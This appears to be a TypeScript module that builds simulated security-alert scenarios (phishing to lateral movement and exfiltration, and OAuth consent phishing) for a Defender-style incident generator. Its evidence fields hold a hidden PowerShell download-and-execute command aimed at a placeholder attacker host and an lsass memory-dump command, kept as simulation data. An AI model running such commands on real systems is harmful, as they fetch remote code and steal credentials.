import { firmDomain } from '../firm.ts';
import type { Random } from '../random.ts';
import { type Cast, fileOf, type MailItem, processOf, type Story, windows } from './story.ts';

/** A mail with a macro document, then credentials, then sideways, then data leaves. */
export const phishingToExfiltration: Story = {
  name: 'phishing-to-exfiltration',
  weight: 5,
  chapters: [
    {
      after: [0, 0],
      title: 'Email messages containing malicious file removed after delivery',
      description:
        'Emails with malicious file that were delivered and later removed\nThis alert is triggered when any messages containing a malicious file are delivered to mailboxes in your organization.',
      category: 'InitialAccess',
      techniques: ['T1566.001'],
      severity: 'informational',
      service: 'microsoftDefenderForOffice365',
      detection: 'microsoftDefenderForOffice365',
      device: () => undefined,
      user: (cast) => cast.victim,
      evidence: (cast, facts) => [
        lure(cast, facts),
        { kind: 'mailbox', user: cast.victim, verdict: 'unknown' },
        { kind: 'user', user: cast.victim, verdict: 'unknown' },
        {
          kind: 'mailCluster',
          by: 'Subject;SenderIp',
          value: `Overdue;${cast.attackerIp}`,
          count: facts.between(3, 40),
          query: `(Subject:"Overdue") and (SenderIp:"${cast.attackerIp}")`,
          verdict: 'malicious',
        },
      ],
      grows: 1,
    },
    {
      after: [25, 90],
      title: 'Suspicious process launched by a Microsoft Office application',
      description:
        'An Office application started a command interpreter. Attackers often use macros in documents that arrive by mail to download and run further payloads.',
      category: 'Execution',
      techniques: ['T1059.001', 'T1204.002'],
      severity: 'medium',
      service: 'microsoftDefenderForEndpoint',
      detection: 'microsoftDefenderForEndpoint',
      device: (cast) => cast.device,
      user: (cast) => cast.victim,
      evidence: (cast, facts) => [
        processOf(
          facts,
          windows.powershell,
          `powershell.exe -NoProfile -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('https://${cast.attackerHost}/a?id=${facts.hex(6)}')"`,
          windows.winword,
          cast.device,
          cast.victim,
        ),
        { kind: 'device', device: cast.device, verdict: 'unknown', detailedRoles: ['PrimaryDevice'] },
        { kind: 'user', user: cast.victim, verdict: 'unknown' },
        { kind: 'url', url: `https://${cast.attackerHost}/a`, roles: ['commandAndControl'] },
        {
          kind: 'file',
          file: fileOf(facts, 'Overdue.docm', `C:\\Users\\${cast.victim.accountName}\\Downloads`),
          device: cast.device,
          detection: 'detected',
          verdict: 'malicious',
        },
      ],
      grows: 1,
    },
    {
      after: [60, 180],
      title: 'Sensitive credential memory read',
      description:
        'The process memory of lsass.exe was read in a way that is typical of credential dumping. Attackers do this to move to other devices with stolen credentials.',
      category: 'CredentialAccess',
      techniques: ['T1003.001'],
      severity: 'high',
      service: 'microsoftDefenderForEndpoint',
      detection: 'microsoftDefenderForEndpoint',
      threatName: 'HackTool:Win32/DumpLsass.A',
      threatFamily: 'DumpLsass',
      device: (cast) => cast.device,
      user: (cast) => cast.victim,
      evidence: (cast, facts) => [
        {
          ...processOf(
            facts,
            windows.rundll32,
            `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump ${facts.between(500, 999)} C:\\Users\\Public\\${facts.hex(4)}.dmp full`,
            windows.powershell,
            cast.device,
            cast.victim,
          ),
          verdict: 'malicious',
        },
        { kind: 'device', device: cast.device, verdict: 'unknown', detailedRoles: ['PrimaryDevice'] },
        { kind: 'user', user: cast.victim, roles: ['compromised'] },
        {
          kind: 'file',
          file: cast.malware,
          device: cast.device,
          detection: 'detected',
          verdict: 'malicious',
        },
      ],
      grows: 1,
    },
    {
      after: [150, 420],
      title: 'Suspicious remote service execution',
      description:
        'A service was created and started from another device with credentials that were read from memory earlier. This is a sign of lateral movement.',
      category: 'LateralMovement',
      techniques: ['T1021.002', 'T1569.002'],
      severity: 'high',
      service: 'microsoftDefenderForEndpoint',
      detection: 'microsoftDefenderForEndpoint',
      device: (cast) => cast.server,
      user: (cast) => cast.admin,
      evidence: (cast, facts) => [
        processOf(
          facts,
          windows.cmd,
          `cmd.exe /c echo ${facts.hex(8)} > \\\\.\\pipe\\${facts.hex(6)}`,
          windows.services,
          cast.server,
          undefined,
        ),
        {
          kind: 'device',
          device: cast.server,
          roles: ['attacked', 'destination'],
          detailedRoles: ['PrimaryDevice'],
        },
        { kind: 'device', device: cast.device, roles: ['attacker', 'source'] },
        { kind: 'user', user: cast.admin, roles: ['compromised'] },
        { kind: 'ip', address: cast.device.address, country: undefined, roles: ['source'] },
      ],
      grows: 2,
    },
    {
      after: [240, 560],
      title: 'Suspected use of stolen credentials (pass the ticket)',
      description:
        'A Kerberos ticket of an administrator was used from a device on which it had not been issued.',
      category: 'LateralMovement',
      techniques: ['T1550.003'],
      severity: 'high',
      service: 'microsoftDefenderForIdentity',
      detection: 'microsoftDefenderForIdentity',
      device: () => undefined,
      user: (cast) => cast.admin,
      evidence: (cast) => [
        { kind: 'user', user: cast.admin, roles: ['compromised'] },
        { kind: 'device', device: cast.device, roles: ['source'] },
        { kind: 'device', device: cast.domainController, roles: ['destination'] },
      ],
    },
    {
      after: [400, 900],
      title: 'Data exfiltration to an app that is not sanctioned',
      description: 'An unusual amount of data was uploaded to a cloud application that is not sanctioned.',
      category: 'Exfiltration',
      techniques: ['T1567.002'],
      severity: 'medium',
      service: 'microsoftDefenderForCloudApps',
      detection: 'cloudAppSecurity',
      device: () => undefined,
      user: (cast) => cast.victim,
      evidence: (cast, facts) => [
        { kind: 'cloudApplication', name: 'Example Paste', appId: facts.between(20_000, 29_999) },
        { kind: 'user', user: cast.victim, verdict: 'unknown' },
        {
          kind: 'ip',
          address: cast.attackerIp,
          country: cast.attackerCountry,
          roles: ['destination'],
        },
      ],
    },
  ],
};

/** Credentials given away on a false sign-in page, then a consent to a false application. */
export const consentPhishing: Story = {
  name: 'consent-phishing',
  weight: 2,
  chapters: [
    {
      after: [0, 0],
      title: 'A potentially malicious URL click was detected',
      description:
        'A user clicked a link that is part of a phishing campaign\nThe link leads to a page that imitates the sign-in page of the organisation.',
      category: 'InitialAccess',
      techniques: ['T1566.002'],
      severity: 'high',
      service: 'microsoftDefenderForOffice365',
      detection: 'microsoftDefenderForOffice365',
      device: () => undefined,
      user: (cast) => cast.victim,
      evidence: (cast, facts) => [
        {
          kind: 'url',
          url: `https://${cast.attackerHost}/signin?u=${cast.victim.upn}`,
          verdict: 'malicious',
        },
        lure(cast, facts),
        { kind: 'user', user: cast.victim, verdict: 'unknown' },
      ],
    },
    {
      after: [60, 400],
      title: 'Unfamiliar sign-in properties',
      description:
        'The following properties of this sign-in are unfamiliar for the given user: ASN, Browser, Device, IP, Location',
      category: 'InitialAccess',
      techniques: ['T1078.004'],
      severity: 'medium',
      service: 'azureAdIdentityProtection',
      detection: 'azureAdIdentityProtection',
      device: () => undefined,
      user: (cast) => cast.victim,
      evidence: (cast) => [
        { kind: 'user', user: cast.victim, roles: ['compromised'] },
        { kind: 'ip', address: cast.attackerIp, country: cast.attackerCountry, roles: ['source'] },
      ],
    },
    {
      after: [120, 700],
      title: 'Suspicious OAuth app file download activities',
      description: 'An application that few users know read many files soon after a user consented to it.',
      category: 'Collection',
      techniques: ['T1528', 'T1530'],
      severity: 'medium',
      service: 'microsoft365Defender',
      detection: 'microsoft365Defender',
      device: () => undefined,
      user: (cast) => cast.victim,
      evidence: (cast, facts) => [
        {
          kind: 'oauthApplication',
          name: 'Mail Helper (simulated)',
          appId: facts.guid(),
          publisher: 'unverified',
        },
        { kind: 'user', user: cast.victim, roles: ['compromised'] },
      ],
    },
  ],
};

function lure(cast: Cast, facts: Random): MailItem & { readonly verdict: 'malicious' } {
  return {
    kind: 'mail',
    sender: `accounts@${cast.attackerHost}`,
    senderName: `Accounts ${firmDomain}`,
    senderIp: cast.attackerIp,
    recipient: cast.victim,
    subject: `Overdue: reference ${facts.between(10_000, 99_999)}`,
    urls: [`https://${cast.attackerHost}/a`],
    attachments: 1,
    networkMessageId: facts.guid(),
    deliveryAction: 'DeliveredAsSpam',
    threats: ['Phish'],
    verdict: 'malicious',
  };
}
